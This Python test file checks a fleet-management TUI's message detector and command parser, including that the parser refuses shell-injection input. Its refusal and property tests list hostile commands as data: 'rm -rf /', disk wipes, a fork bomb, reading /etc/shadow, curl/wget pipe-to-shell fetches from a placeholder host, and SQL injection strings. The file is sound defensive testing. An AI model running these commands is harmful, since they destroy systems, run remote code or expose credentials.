"""The dispatcher's detector, command parser and their labelled data set (aurora_tui/catalogue/messages.jsonl)."""
from __future__ import annotations

import re
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aurora_tui.core.dispatch import detector as det_mod
from aurora_tui.bench.route import macro_f1
from aurora_tui.core.dispatch.baseline import KeywordBaseline
from aurora_tui.core.dispatch.commands import (
    ACTIONS,
    FLEET_CHANGING,
    PATTERN_IDS,
    Command,
    Refusal,
    parse_command,
    parse_duration,
    resolve_pattern,
    resolve_service,
    suggest_verb,
)
from aurora_tui.core.dispatch.detector import (
    CONVERSATION_TYPES,
    ConversationDetector,
    Detection,
    load_messages,
)

SERVICES = ("aurora_ui", "bridge_api", "learning_api", "file_server")
TYPE_OF_ACTION = {
    "status": "analysis", "logs": "analysis", "incidents": "analysis", "approvals": "analysis",
    "scan": "analysis", "grade": "analysis",
    "start": "debugging", "stop": "debugging", "restart": "debugging", "why": "debugging",
    "rollback": "debugging", "silence": "debugging", "approve": "debugging", "reject": "debugging",
    "explain": "explanation", "help": "question_answering",
}

ROWS = load_messages()
TRAIN = [r for r in ROWS if r["split"] == "train"]
TEST = [r for r in ROWS if r["split"] == "test"]


@pytest.fixture(scope="module")
def detector() -> ConversationDetector:
    return ConversationDetector.default()


@pytest.fixture(scope="module")
def test_predictions(detector):
    return [(r, detector.detect(r["text"])) for r in TEST]


def expected_calibration_error(confidences: list[float], correct: list[bool], bins: int = 10) -> float:
    total = len(confidences)
    error = 0.0
    for b in range(bins):
        lo, hi = b / bins, (b + 1) / bins
        members = [i for i, c in enumerate(confidences) if lo < c <= hi or (b == 0 and c == 0.0)]
        if members:
            accuracy = sum(correct[i] for i in members) / len(members)
            confidence = sum(confidences[i] for i in members) / len(members)
            error += len(members) / total * abs(accuracy - confidence)
    return error


def _norm(text: str) -> str:
    return " ".join(text.casefold().split())


# --------------------------------------------------------------------------------------------------
# the data set


def test_dataset_shape_and_labels():
    assert len(ROWS) >= 600
    for r in ROWS:
        assert {"text", "type", "action", "target", "split"} <= set(r), r
        assert isinstance(r["text"], str) and r["text"].strip(), r
        assert r["type"] in CONVERSATION_TYPES, r
        assert r["action"] is None or r["action"] in ACTIONS, r
        assert r["target"] is None or isinstance(r["target"], str), r
        assert r["split"] in ("train", "test"), r
        if r["action"] is None:
            assert r["target"] is None, r
        else:
            assert r["type"] == TYPE_OF_ACTION[r["action"]], r  # the documented labelling rule
        if r["action"] == "explain":
            assert r["target"] in PATTERN_IDS, r
        elif r["action"] in ("approve", "reject", "grade"):
            assert r["target"] is not None and r["target"].isdigit(), r
        elif r["target"] is not None:
            assert r["target"] in SERVICES or r["target"].isdigit(), r
        if r.get("dangerous"):
            assert r["action"] is None, r
    per_type = Counter(r["type"] for r in ROWS)
    assert all(per_type[t] >= 40 for t in CONVERSATION_TYPES), per_type


def test_dataset_has_no_duplicates():
    texts = [_norm(r["text"]) for r in ROWS]
    dupes = [t for t, n in Counter(texts).items() if n > 1]
    assert not dupes


def test_dataset_commands_cover_every_verb():
    commands = [r for r in ROWS if r["action"]]
    assert len(commands) >= 200
    per_verb = Counter(r["action"] for r in commands)
    assert set(per_verb) == set(ACTIONS)
    assert min(per_verb.values()) >= 8, per_verb
    assert sum(1 for r in ROWS if r.get("dangerous")) >= 20


def test_split_is_frozen_stratified_every_fourth():
    seen: Counter = Counter()
    for r in ROWS:
        i = seen[r["type"]]
        seen[r["type"]] += 1
        assert r["split"] == ("test" if i % 4 == 3 else "train"), r
    assert 0.22 <= len(TEST) / len(ROWS) <= 0.28
    for t in CONVERSATION_TYPES:
        n = sum(1 for r in ROWS if r["type"] == t)
        k = sum(1 for r in TEST if r["type"] == t)
        assert abs(k / n - 0.25) < 0.03, (t, k, n)
    assert any(r["action"] for r in TEST)


def test_detector_trains_on_train_split_only(detector):
    assert detector.n_train == len(TRAIN)


# --------------------------------------------------------------------------------------------------
# the detector on the frozen test split


def test_detector_accuracy_and_macro_f1_on_test(test_predictions):
    gold = [r["type"] for r, _ in test_predictions]
    pred = [d.type for _, d in test_predictions]
    accuracy = sum(g == p for g, p in zip(gold, pred)) / len(gold)
    f1 = macro_f1(gold, pred)
    assert accuracy >= 0.80, accuracy
    assert f1 >= 0.78, f1


def test_detector_beats_keyword_baseline(test_predictions):
    baseline = KeywordBaseline()
    gold = [r["type"] for r, _ in test_predictions]
    learned = [d.type for _, d in test_predictions]
    keyword = [baseline.detect(r["text"]).type for r, _ in test_predictions]
    acc = lambda pred: sum(g == p for g, p in zip(gold, pred)) / len(gold)  # noqa: E731
    assert acc(learned) > acc(keyword)
    assert macro_f1(gold, learned) > macro_f1(gold, keyword)


def test_baseline_saturates_as_the_seed_did():
    baseline = KeywordBaseline()
    d = baseline.detect("the restart is broken: error, exception, traceback, a crash and a bug; fix this failing "
                        "issue, it is down, not working, wrong, debug the problem or it will fail")
    assert d.type == "debugging" and d.confidence == 100
    assert baseline.detect("").type == "general_chat"
    assert baseline.detect("zzz qqq").confidence == 0


def test_confidence_is_calibrated_on_test(test_predictions):
    confs = [d.confidence for _, d in test_predictions]
    correct = [d.type == r["type"] for r, d in test_predictions]
    right = [c for c, ok in zip(confs, correct) if ok]
    wrong = [c for c, ok in zip(confs, correct) if not ok]
    assert wrong, "a perfect score on test would be suspicious"
    assert sum(right) / len(right) > sum(wrong) / len(wrong)
    assert all(0.0 < c < 1.0 for c in confs)
    assert expected_calibration_error(confs, correct) < 0.15


def test_detection_shape(detector):
    d = detector.detect("restart the bridge api, it's throwing 502s")
    assert isinstance(d, Detection)
    assert d.type in CONVERSATION_TYPES
    assert set(d.scores) == set(CONVERSATION_TYPES)
    assert abs(sum(d.scores.values()) - 1.0) < 1e-6
    assert d.scores[d.type] == d.confidence == max(d.scores.values())
    assert d.score == round(1 + 9 * d.confidence) and 1 <= d.score <= 10


def test_ambiguous_messages_are_less_confident(detector):
    clear = detector.detect("write a python function that parses durations like 30m")
    vague = detector.detect("the thing with the stuff")
    assert clear.confidence > vague.confidence + 0.2


@pytest.mark.parametrize("text", ["", "   ", "\n\t ", "\x00\x01", "🙂🙃", "!!!???", "qwxz vbnmk plokij"])
def test_empty_and_garbage_are_low_confidence_general_chat(detector, text):
    d = detector.detect(text)
    assert d.type == "general_chat"
    assert d.confidence < 0.5
    assert d.score <= 5


def test_long_input_is_truncated_and_never_saturates(detector):
    d = detector.detect("restart the bridge api " * 5000)
    assert d.type in CONVERSATION_TYPES and 0.0 < d.confidence < 1.0
    assert detector.detect("write a dockerfile " * 2000).confidence < 1.0
    assert detector.detect(None).type == "general_chat"  # type: ignore[arg-type]


def test_training_is_deterministic_and_cached():
    # How long training takes is measured by the route benchmark (detector_training_ms), not here.
    fresh, default = ConversationDetector(), ConversationDetector.default()
    for text in ("restart the bridge api, it's throwing 502s", "write a python function that parses durations"):
        assert fresh.detect(text) == default.detect(text)
    assert ConversationDetector.default() is ConversationDetector.default()


def test_temperature_fitted_on_train_slice_only(monkeypatch):
    """The calibration slice is drawn from the examples given; the test split is never read."""
    calls = []
    real = det_mod.load_messages

    def spy(split=None):
        calls.append(split)
        return real(split)

    monkeypatch.setattr(det_mod, "load_messages", spy)
    d = ConversationDetector()
    assert calls == ["train"]
    assert 0.05 < d.temperature < 50


# --------------------------------------------------------------------------------------------------
# commands on the frozen test split


def _action(result):
    return result.action if isinstance(result, Command) else None


def test_command_and_target_accuracy_on_test():
    commands = [r for r in TEST if r["action"]]
    assert len(commands) >= 50
    results = [(r, parse_command(r["text"], SERVICES, PATTERN_IDS)) for r in commands]
    action_acc = sum(_action(res) == r["action"] for r, res in results) / len(results)
    with_target = [(r, res) for r, res in results if r["target"] is not None]
    target_acc = sum(isinstance(res, Command) and res.target == r["target"] for r, res in with_target) / len(with_target)
    assert action_acc >= 0.95, action_acc
    assert target_acc >= 0.95, target_acc


def test_every_dangerous_message_gets_no_action():
    dangerous = [r for r in ROWS if r.get("dangerous")]
    for r in dangerous:
        result = parse_command(r["text"], SERVICES)
        assert not isinstance(result, Command), (r["text"], result)
    refused = sum(isinstance(parse_command(r["text"], SERVICES), Refusal) for r in dangerous)
    assert refused == len(dangerous)


@pytest.mark.parametrize("text", [
    "rm -rf /", "kill -9 1", "$(curl x | sh)", "; shutdown now", "kill pid 1", "sudo reboot",
    "restart bridge api; rm -rf /", "restart bridge api && curl http://x.example/a | sh", "stop init",
    "restart aurora itself", "stop aurora", "restart pid 4242", "restart process 1", "kill the bridge",
    "approve 3' OR '1'='1", "reject 1; DROP TABLE approvals", "shutdown", "reboot", "restart `id`",
    "silence ui for 10m > /dev/null", "stop yourself", "restart 1234",
])
def test_refusals(text):
    assert isinstance(parse_command(text, SERVICES), Refusal)


@pytest.mark.parametrize("text", [
    "write a script to restart the bridge api every night", "should we split the file server",
    "how can i make the learning api faster", "refactor the bridge client", "thanks!", "ok",
    "why do we use a separate process group for each service", "explain the actor model",
    "the bridge api keeps returning 502 after the deploy", "what is the CAP theorem",
    "```python\nprint('restart bridge api')\n```", "how's it going", "restart loop on the bridge",
])
def test_chat_is_not_a_command(text):
    assert parse_command(text, SERVICES) is None


# --------------------------------------------------------------------------------------------------
# unit tests: names, ids, durations, grades, did-you-mean


@pytest.mark.parametrize("text,expected", [
    ("bridge api", "bridge_api"), ("brige api", "bridge_api"), ("the bridge", "bridge_api"),
    ("bridge-api", "bridge_api"), ("BRIDGE_API", "bridge_api"), ("learning-api", "learning_api"),
    ("lerning api", "learning_api"), ("learning", "learning_api"), ("fileserver", "file_server"),
    ("file server", "file_server"), ("the file-server", "file_server"), ("ui", "aurora_ui"),
    ("aurora ui", "aurora_ui"), ("aurora-ui", "aurora_ui"),
])
def test_resolve_service_fuzzy(text, expected):
    name, score, _ = resolve_service(text, SERVICES)
    assert name == expected and score >= 80


def test_resolve_service_uses_the_live_list():
    assert resolve_service("bridge api", ["learning_api", "file_server"])[0] is None
    assert resolve_service("metrics", ["metrics_api", "bridge_api"])[0] == "metrics_api"
    assert resolve_service("anything", [])[0] is None


def test_resolve_service_low_score_offers_alternatives():
    name, score, alternatives = resolve_service("brdgx", SERVICES)
    assert name is None and score < 80
    assert "bridge_api" in alternatives
    assert resolve_service("aurora", SERVICES)[0] is None  # Aurora itself is not aurora_ui
    assert resolve_service("api", SERVICES)[0] is None  # ambiguous


def test_parse_command_did_you_mean_for_unknown_service():
    cmd = parse_command("restart the brdgx", SERVICES)
    assert isinstance(cmd, Command) and cmd.action == "restart" and cmd.target is None
    assert "bridge_api" in cmd.args["did_you_mean"]
    unknown = parse_command("status of the databse", SERVICES)
    assert isinstance(unknown, Command) and unknown.target is None and "unresolved" in unknown.args
    assert unknown.args.get("scope") != "all"


@pytest.mark.parametrize("text,action,target", [
    ("approve 12", "approve", "12"), ("approve #7", "approve", "7"), ("approve id 3", "approve", "3"),
    ("lgtm 12", "approve", "12"), ("ok 12", "approve", "12"), ("reject #7 because it's too risky", "reject", "7"),
    ("deny 4", "reject", "4"), ("decline #9", "reject", "9"), ("why #12", "why", "12"),
    ("rollback #5", "rollback", "5"), ("what happened with incident 7", "why", "7"),
])
def test_ids(text, action, target):
    cmd = parse_command(text, SERVICES)
    assert isinstance(cmd, Command) and (cmd.action, cmd.target) == (action, target)


@pytest.mark.parametrize("text,target,grade", [
    ("grade 4 8/10", "4", 8), ("grade #3 9/10", "3", 9), ("grade 12 6", "12", 6), ("give #2 a 10/10", "2", 10),
    ("rate incident 5 7/10", "5", 7), ("score 9 8 out of 10", "9", 8), ("grade incident 11 a 5", "11", 5),
    ("grade 7 3 / 10", "7", 3),
])
def test_grades(text, target, grade):
    cmd = parse_command(text, SERVICES)
    assert isinstance(cmd, Command) and cmd.action == "grade"
    assert cmd.target == target and cmd.args["grade"] == grade


def test_grade_out_of_range_is_not_a_grade():
    assert parse_command("grade 4 15/10", SERVICES) is None


def test_reasons():
    assert parse_command("reject #7 because it's too risky", SERVICES).args["reason"] == "it's too risky"
    assert parse_command("reject 3 reason: wrong service", SERVICES).args["reason"] == "wrong service"
    assert parse_command("deny #2 - not during business hours", SERVICES).args["reason"] == "not during business hours"
    assert "reason" not in parse_command("approve 12", SERVICES).args


@pytest.mark.parametrize("text,seconds", [
    ("30m", 1800), ("2h", 7200), ("for 1 hour", 3600), ("90s", 90), ("1h30m", 5400), ("45 minutes", 2700),
    ("an hour", 3600), ("half an hour", 1800), ("10 min", 600), ("2 days", 172800), ("1.5h", 5400),
    ("last 24h", 86400), ("today", 86400),
])
def test_durations(text, seconds):
    assert parse_duration(text) == seconds


def test_no_duration():
    assert parse_duration("restart the bridge") is None
    assert parse_duration("meet at 3am") is None
    assert parse_duration("payload over 1mb") is None


def test_durations_and_lines_in_commands():
    assert parse_command("silence file server for 30m", SERVICES) == Command("silence", "file_server", {"duration_s": 1800})
    inc = parse_command("incidents in the last 2h", SERVICES)
    assert inc.action == "incidents" and inc.target is None and inc.args["window_s"] == 7200
    logs = parse_command("show me the last 50 lines of the ui logs", SERVICES)
    assert (logs.action, logs.target, logs.args["lines"]) == ("logs", "aurora_ui", 50)
    assert parse_command("mute bridge api for 1 hour", SERVICES).args["duration_s"] == 3600


@pytest.mark.parametrize("word,verb", [
    ("restrat", "restart"), ("rstart", "restart"), ("stauts", "status"), ("sotp", "stop"), ("lgos", "logs"),
    ("aprove", "approve"), ("rejcet", "reject"), ("silnce", "silence"), ("rolback", "rollback"),
    ("explian", "explain"), ("scna", "scan"), ("bounce", "restart"), ("snooze", "silence"), ("revert", "rollback"),
    ("halp", "help"), ("incidnets", "incidents"), ("status", "status"),
])
def test_suggest_verb(word, verb):
    assert suggest_verb(word) == verb


@pytest.mark.parametrize("word", ["banana", "lol", "test", "shop", "hello", "", "x" * 500])
def test_suggest_verb_none(word):
    assert suggest_verb(word) is None


def test_misspelt_verb_is_parsed_and_flagged():
    cmd = parse_command("restrat brige api", SERVICES)
    assert (cmd.action, cmd.target) == ("restart", "bridge_api")
    assert cmd.args["corrected_from"] == "restrat"


@pytest.mark.parametrize("text,action", [
    ("bounce the file server", "restart"), ("kick learning api", "restart"), ("reboot the bridge", "restart"),
    ("show status", "status"), ("how's the fleet", "status"), ("health of learning-api", "status"),
    ("tail learning api", "logs"), ("show logs for file server", "logs"), ("what happened to the file server", "why"),
    ("why is bridge api down", "why"), ("root cause of learning api crash", "why"), ("mute fileserver", "silence"),
    ("snooze ui 5m", "silence"), ("undo 7", "rollback"), ("revert learning-api", "rollback"),
    ("roll back the file server", "rollback"), ("lgtm #19", "approve"), ("deny 4", "reject"), ("help", "help"),
    ("scan the fleet", "scan"), ("approvals", "approvals"), ("start bridge api", "start"), ("stop file server", "stop"),
])
def test_verb_synonyms(text, action):
    cmd = parse_command(text, SERVICES)
    assert isinstance(cmd, Command) and cmd.action == action, cmd


@pytest.mark.parametrize("text,pattern", [
    ("explain memory_leak", "memory_leak"), ("what is a crash loop", "crash_loop"), ("explain zombies", "zombie_children"),
    ("what does port conflict mean", "port_conflict_foreign"), ("explain port_conflict_stale", "port_conflict_stale"),
    ("what's fd exhaustion", "fd_exhaustion"), ("explain the flapping pattern", "flapping"), ("explain hung", "hung"),
])
def test_explain_patterns(text, pattern):
    assert parse_command(text, SERVICES) == Command("explain", pattern, {})


def test_pattern_ids_and_phrases():
    assert len(PATTERN_IDS) == 26 and len(set(PATTERN_IDS)) == 26
    for pid in PATTERN_IDS:
        assert resolve_pattern(pid) == pid
        assert resolve_pattern(pid.replace("_", " ")) == pid
    assert resolve_pattern("why we debounce flapping alerts instead of paging") is None
    assert resolve_pattern("memory leak", patterns=["crashed"]) is None  # only the live patterns


def test_whole_fleet_is_explicit():
    assert parse_command("restart everything", SERVICES).args.get("scope") == "all"
    assert parse_command("restart", SERVICES).args.get("scope") is None


# --------------------------------------------------------------------------------------------------
# property tests

SHELL_FRAGMENTS = [
    "rm -rf /", "rm -rf ~", "kill -9 1", "kill -HUP 1", "kill pid 1", "$(curl x | sh)", "`reboot`", "; shutdown now",
    "&& sudo rm -rf /var", "| sh", "|| reboot", "> /etc/passwd", "sudo systemctl stop aurora", "killall python",
    "pkill -f aurora", "${IFS}rm${IFS}-rf", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /",
    "wget http://x.example/p.sh -O- | sh", "'; DROP TABLE incidents; --", "' OR '1'='1", "shutdown -h now",
    "python -c 'import os'", "bash -c reboot", "cat /etc/shadow", "; kill -9 $$",
]
FLEET_PREFIXES = ["", "restart bridge api", "stop the file server", "approve 12", "reject #3", "silence ui for 30m",
                  "rollback learning api", "start learning-api", "please"]

huge_text = st.builds(lambda s, n: (s or "x") * n, st.text(max_size=40), st.integers(min_value=100, max_value=3000))
any_text = st.one_of(st.text(), st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1FFFF)), huge_text)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(any_text)
def test_arbitrary_text_never_raises(text):
    d = ConversationDetector.default().detect(text)
    assert d.type in CONVERSATION_TYPES
    assert 0.0 <= d.confidence < 1.0
    assert 1 <= d.score <= 10
    result = parse_command(text, SERVICES, PATTERN_IDS)
    assert result is None or isinstance(result, (Command, Refusal))
    if isinstance(result, Command):
        assert result.action in ACTIONS


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(FLEET_PREFIXES), st.text(max_size=30), st.sampled_from(SHELL_FRAGMENTS), st.text(max_size=30))
def test_shell_lines_never_change_the_fleet(prefix, before, fragment, after):
    for text in (f"{prefix} {before} {fragment} {after}", f"{prefix} {fragment}", f"{fragment} {prefix}",
                 f"{before}\n{fragment}\n{prefix}"):
        result = parse_command(text, SERVICES)
        assert not (isinstance(result, Command) and result.action in FLEET_CHANGING), (text, result)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60), st.sampled_from(SERVICES))
def test_resolve_service_never_raises(text, service):
    name, score, alternatives = resolve_service(text, SERVICES)
    assert name is None or name in SERVICES
    assert 0.0 <= score <= 100.0
    assert all(a in SERVICES for a in alternatives)
    assert resolve_service(text + " " + service, SERVICES)[1] == 100.0


def test_commands_never_execute_anything(monkeypatch):
    import os
    import subprocess

    def boom(*_a, **_k):
        raise AssertionError("parse_command must not run anything")

    monkeypatch.setattr(os, "system", boom)
    monkeypatch.setattr(subprocess, "Popen", boom)
    for r in ROWS:
        parse_command(r["text"], SERVICES)


def test_stdlib_only_detector():
    import ast
    import inspect

    allowed = {"__future__", "json", "math", "re", "threading", "time", "unicodedata", "dataclasses",
               "importlib", "typing"}
    for module in (det_mod,):
        tree = ast.parse(inspect.getsource(module))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                names = [a.name.split(".")[0] for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0:
                names = [node.module.split(".")[0]]
            else:
                continue
            assert set(names) <= allowed, names
    assert not re.search(r"\btextual\b", inspect.getsource(det_mod))
